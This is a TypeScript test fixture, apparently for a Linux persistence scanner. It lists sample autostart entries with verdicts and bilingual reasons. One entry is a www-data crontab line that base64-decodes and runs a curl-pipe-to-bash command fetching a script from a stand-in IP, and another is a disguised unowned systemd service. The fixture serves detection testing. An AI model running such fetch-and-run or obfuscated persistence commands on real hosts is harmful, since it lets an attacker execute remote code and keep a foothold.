/** What starts by itself on the hosts of the tests: what brings the miner back, and what every host has. */
import type { ResultPersistence } from '../model/result.ts';

let made = 0;

function entryRow(
  row: Partial<ResultPersistence> & Pick<ResultPersistence, 'mechanism' | 'source'>,
): ResultPersistence {
  made += 1;
  return {
    id: `P${made}`,
    user: 'root',
    trigger: 'boot',
    command: '',
    decoded: [],
    active: true,
    judgement: 'benign',
    reasons: [],
    text: row.command ?? '',
    ...row,
  };
}

const fetching = 'curl -fsSL http://192.0.2.80/i.sh | bash';
const packedCommand = 'echo Y3VybCAtZnNTTCBodHRwOi8vMTkyLjAuMi44MC9pLnNoIHwgYmFzaA== | base64 -d | bash';

export const graveEntries: readonly ResultPersistence[] = [
  entryRow({
    mechanism: 'cron-user',
    source: '/var/spool/cron/crontabs/www-data',
    line: 3,
    user: 'www-data',
    trigger: '*/5 * * * *',
    command: packedCommand,
    decoded: [fetching],
    judgement: 'malicious',
    reasons: [
      {
        id: 'decode-and-run',
        texts: {
          en: 'What is run is written in code (1 layer was undone).',
          'zh-CN': '所执行的内容经过编码（已还原 1 层）。',
        },
      },
      {
        id: 'fetch-and-run',
        texts: {
          en: 'Fetches something from the network and runs it (http://192.0.2.80/i.sh).',
          'zh-CN': '从网络下载内容并立即执行（http://192.0.2.80/i.sh）。',
        },
      },
    ],
    text: `*/5 * * * * ${packedCommand}`,
  }),
  entryRow({
    mechanism: 'systemd-service',
    source: '/etc/systemd/system/dbus-update.service',
    line: 7,
    command: '/usr/lib/dbus-update',
    target: '/usr/lib/dbus-update',
    judgement: 'suspicious',
    reasons: [
      {
        id: 'unowned-among-owned',
        texts: {
          en: '/usr/lib/dbus-update belongs to no package, where everything else belongs to one.',
          'zh-CN': '/usr/lib/dbus-update 不属于任何软件包，却位于软件包专用目录。',
        },
      },
    ],
    text: 'ExecStart=/usr/lib/dbus-update',
  }),
];

export const quietEntries: readonly ResultPersistence[] = [
  entryRow({
    mechanism: 'rc-local',
    source: '/etc/rc.local',
    line: 12,
    command: '/opt/backup/start.sh',
    judgement: 'unusual',
    active: false,
    reasons: [
      {
        id: 'absent-target',
        texts: { en: '/opt/backup/start.sh is not there now.', 'zh-CN': '/opt/backup/start.sh 当前不存在。' },
      },
    ],
  }),
  ...['ssh', 'cron', 'nginx', 'redis-server'].map((name) =>
    entryRow({
      mechanism: 'systemd-service',
      source: `/usr/lib/systemd/system/${name}.service`,
      line: 9,
      command: `/usr/sbin/${name} -D`,
    }),
  ),
  entryRow({
    mechanism: 'cron-drop-in',
    source: '/etc/cron.d/e2scrub_all',
    line: 1,
    command: 'test -e /run',
  }),
];
